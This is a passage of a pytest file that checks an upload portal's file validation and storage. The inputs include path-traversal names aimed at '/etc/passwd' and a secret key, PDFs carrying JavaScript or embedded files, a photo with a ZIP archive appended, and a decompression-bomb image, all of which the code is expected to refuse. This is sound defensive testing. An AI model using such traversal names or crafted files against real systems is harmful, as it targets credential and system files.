    assert "11" in text and "10" in text
    assert rejected(pdf(3), max_pdf_pages=2).code == "pdf_too_many_pages"


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\nthis is not a pdf at all\n%%EOF\n",
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n",  # no end
    pdf(2)[:-200] + b"\n%%EOF\n",
], ids=["garbage", "no-eof", "truncated"])
def test_broken_pdf_is_refused(app, data):
    error = rejected(data)
    assert error.code == "corrupt_pdf"
    assert_indonesian(message_for(app, error))


# --- messages -------------------------------------------------------------------------------------------


def test_every_code_has_its_own_indonesian_message(app):
    errors = [UploadRejected("empty"), UploadRejected("too_large", limit_mb=10, size_mb=12.5),
              UploadRejected("unsupported_type"), UploadRejected("corrupt_image"),
              UploadRejected("image_too_small", width=320, height=480, minimum=600),
              UploadRejected("image_too_many_pixels", width=20000, height=20000), UploadRejected("hidden_content"),
              UploadRejected("pdf_encrypted"), UploadRejected("pdf_active_content"),
              UploadRejected("pdf_too_many_pages", pages=12, limit=10), UploadRejected("corrupt_pdf"),
              UploadRejected("something_new")]
    texts = [message_for(app, error) for error in errors]
    for text in texts:
        assert_indonesian(text)
    assert len(set(texts)) == len(texts)
    assert "12,5 MB" in texts[1] and "10 MB" in texts[1]
    assert "320 × 480 piksel" in texts[4]


def test_rejection_carries_code_and_params():
    error = UploadRejected("pdf_too_many_pages", pages=12, limit=10)
    assert (error.code, error.params) == ("pdf_too_many_pages", {"pages": 12, "limit": 10})
    assert "pdf_too_many_pages" in str(error)


# --- the store ------------------------------------------------------------------------------------------

NAME = re.compile(r"[A-Za-z0-9_-]{32}\.(jpg|pdf)")


@pytest.fixture
def store(tmp_path):
    return UploadStore(LocalStorage(tmp_path / "instance"))


def _root(store):
    return store.storage.root / "uploads"


def test_saved_file_has_a_random_private_name_in_a_private_folder_and_no_temporary_left(store):
    photo = inspect_upload(phone_photo(), max_bytes=LIMIT)
    document = inspect_upload(pdf(2), max_bytes=LIMIT)

    names = [store.save(photo), store.save(document), store.save(photo)]

    assert all(NAME.fullmatch(name) for name in names)
    assert names[0].endswith(".jpg") and names[1].endswith(".pdf")
    assert len(set(names)) == 3  # the same photo twice is two files
    assert stat.S_IMODE(_root(store).stat().st_mode) == 0o700
    assert sorted(path.name for path in _root(store).iterdir()) == sorted(names)  # nothing else, no temp file
    for name in names:
        assert stat.S_IMODE((_root(store) / name).stat().st_mode) == 0o600
    assert store.read(names[0]) == photo.data and store.read(names[1]) == document.data


def test_delete_removes_and_tolerates_a_missing_file(store):
    name = store.save(inspect_upload(pdf(1), max_bytes=LIMIT))
    assert store.delete(name) and store.delete(name)
    assert list(_root(store).iterdir()) == [] and not store.exists(name)
    with pytest.raises(MissingObject):
        store.read(name)


@pytest.mark.parametrize("name", [
    "../secret_key", "../../etc/passwd", "/etc/passwd", "a/b.jpg", "..", ".", "", "x" * 32 + ".exe",
    "x" * 31 + ".jpg", "x" * 32 + ".jpg/", "x" * 32 + ".JPG", "x" * 32 + ".jpg\x00", ".incoming-abc",
    "x" * 30 + "..jpg", None,
])
def test_store_refuses_names_it_did_not_make(store, name):
    for use in (store.key, store.read, store.delete, store.exists):
        with pytest.raises(ValueError):
            use(name)


def test_failed_save_leaves_no_file_and_says_so(store, monkeypatch):
    def broken_replace(source, target):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(local_storage.os, "replace", broken_replace)
    with pytest.raises(StorageError, match="the disk is full"):
        store.save(inspect_upload(pdf(1), max_bytes=LIMIT))
    assert list(_root(store).iterdir()) == []


def test_leftover_temporary_files_are_swept(store):
    kept = store.save(inspect_upload(pdf(1), max_bytes=LIMIT))  # makes the folder
    old = _root(store) / ".incoming-crashed"
    old.write_bytes(b"half a scan")
    past = time.time() - 7200
    os.utime(old, (past, past))
    fresh = _root(store) / ".incoming-writing"
    fresh.write_bytes(b"being written")
    assert store.storage.sweep_partial(3600) == 1
    assert fresh.exists() and not old.exists()
    assert [found.key for found in store.storage.list("uploads/")] == [f"uploads/{kept}"]  # no partial listed


REJECTED_CORPUS = [b"", ELF, SVG, HTML, phone_photo() + zip_archive(), png_bomb(20000, 20000, rows=4),
                   phone_photo()[:5000], encode(picture(300, 400), "JPEG"), pdf(1, open_action_javascript),
                   pdf(1, embedded_file), pdf(1, password), pdf(11), b"%PDF-1.7\ngarbage\n%%EOF\n"]


def test_a_rejected_upload_writes_nothing(store):
    """The way the portal stores an upload: inspect, then save only what came back."""
    codes = set()
    for data in REJECTED_CORPUS:
        try:
            store.save(inspect_upload(data, max_bytes=LIMIT))
        except UploadRejected as error:
            codes.add(error.code)
        else:
            pytest.fail("accepted a file of the rejected corpus")
    assert len(codes) >= 9
    assert not _root(store).exists() or list(_root(store).iterdir()) == []


def test_crafted_structures_are_refused():
    many_signatures = phone_photo() + (b"PK\x03\x04" + b"\xff" * 4) * 100_000
    assert uploads.contains_zip(many_signatures)
    tiny_segments = b"\xff\xd8" + b"\xff\xfe\x00\x02" * 500_000 + b"\xff\xd9"  # half a million empty comments
    assert rejected(tiny_segments).code == "corrupt_image"


def test_damaged_images_are_refused_even_after_weasyprint_is_imported():
    """WeasyPrint sets Pillow's LOAD_TRUNCATED_IMAGES on import; uploads must not inherit it."""
    import weasyprint  # noqa: F401  (the import is the point)
    from PIL import ImageFile

    ImageFile.LOAD_TRUNCATED_IMAGES = True
    buffer = io.BytesIO()
    Image.new("RGB", (1200, 1600), (10, 200, 30)).save(buffer, "PNG")
    data = buffer.getvalue()
    damaged = data[:len(data) // 2] + data[-12:]  # keeps IEND, loses half the image data
    with pytest.raises(UploadRejected) as raised:
        inspect_upload(damaged, max_bytes=10_000_000)
    assert raised.value.code == "corrupt_image"
